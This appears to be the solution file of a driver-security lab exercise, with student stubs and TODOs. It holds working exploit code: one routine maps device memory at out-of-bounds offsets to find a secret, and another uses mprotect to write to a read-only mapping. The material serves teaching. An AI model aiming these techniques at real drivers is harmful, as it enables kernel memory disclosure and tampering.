// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack.c - two attacks on a careless driver, see attack.h. For the machine
 * of this lab only: to know the mistake is to stop making it.
 */
#include "attack.h"

#include <errno.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#ifndef STARTER
#define WINDOW 256 /* pages that are asked for at a time */

/*
 * A window of the device's memory, of so many pages from page `first` on. A
 * driver that adds the offset to its buffer's address without a check takes
 * a negative one as well.
 *
 * Return: 1 if the secret was there, 0 if not, a negative errno if the window
 * cannot be had.
 */
static int look(int fd, long first, long pages, const unsigned char *tag, unsigned char *secret)
{
	long page = sysconf(_SC_PAGESIZE);
	size_t length = (size_t)pages * page, i;
	unsigned char *p = mmap(NULL, length, PROT_READ, MAP_SHARED, fd, first * page);
	int found = 0;

	if (p == MAP_FAILED)
		return -errno;
	for (i = 0; i < length && !found; i += page) {
		/* memcmp, not strncmp: tag and secret may hold zeros. */
		found = !memcmp(p + i, tag, ATTACK_TAG);
		if (found)
			memcpy(secret, p + i + ATTACK_TAG, ATTACK_SECRET);
	}
	munmap(p, length);
	return found;
}

/*
 * Window after window, away from `at`. One that is refused may reach past
 * the end of memory by a few pages only, so the next one is half as long; when a
 * single page is refused, this is the end. A driver that refuses nothing would
 * keep this going for ever: there is no secret further away than memory is long.
 */
static bool walk(int fd, long at, bool up, const unsigned char *tag, unsigned char *secret)
{
	long pages = WINDOW, limit = 2 * sysconf(_SC_PHYS_PAGES);
	int got;

	while (pages && at < limit && at > -limit) {
		got = look(fd, up ? at : at - pages, pages, tag, secret);
		if (got > 0)
			return true;
		if (got < 0)
			pages /= 2;
		else
			at += up ? pages : -pages;
	}
	return false;
}
#endif

int attack_search(int fd, const unsigned char tag[ATTACK_TAG],
		  unsigned char secret[ATTACK_SECRET])
{
#ifdef STARTER
	/*
	 * TODO (search_finds_secret): map what lies behind the buffer and look at
	 * the beginning of each page; see README task 1.
	 */
	/*
	 * TODO (search_looks_both_ways): and what lies before it; see task 2.
	 */
	/*
	 * TODO (nothing_without_a_secret): come to an end, and unmap; see task 3.
	 */
	return -ENOSYS;
#else
	if (walk(fd, 0, true, tag, secret))
		return 0;
	/*
	 * Offset plus length must stay below 2^64, or the kernel itself says
	 * EOVERFLOW: so the page just before the buffer cannot be asked for.
	 */
	return walk(fd, -1, false, tag, secret) ? 0 : -ENOENT;
#endif
}

int attack_store(int fd, size_t at, unsigned char value)
{
#ifdef STARTER
	/*
	 * TODO (store_changes_readonly_buffer): map for reading, which is allowed,
	 * and ask for more afterwards; see README task 4.
	 */
	return -ENOSYS;
#else
	size_t page = sysconf(_SC_PAGESIZE), in_page = at % page;
	unsigned char *p = mmap(NULL, page, PROT_READ, MAP_SHARED, fd, at - in_page);
	int err = 0;

	if (p == MAP_FAILED)
		return -errno;
	/* The kernel does this without asking the driver: VM_MAYWRITE decides. */
	if (mprotect(p, page, PROT_READ | PROT_WRITE))
		err = -errno;
	else
		p[in_page] = value;
	munmap(p, page);
	return err;
#endif
}
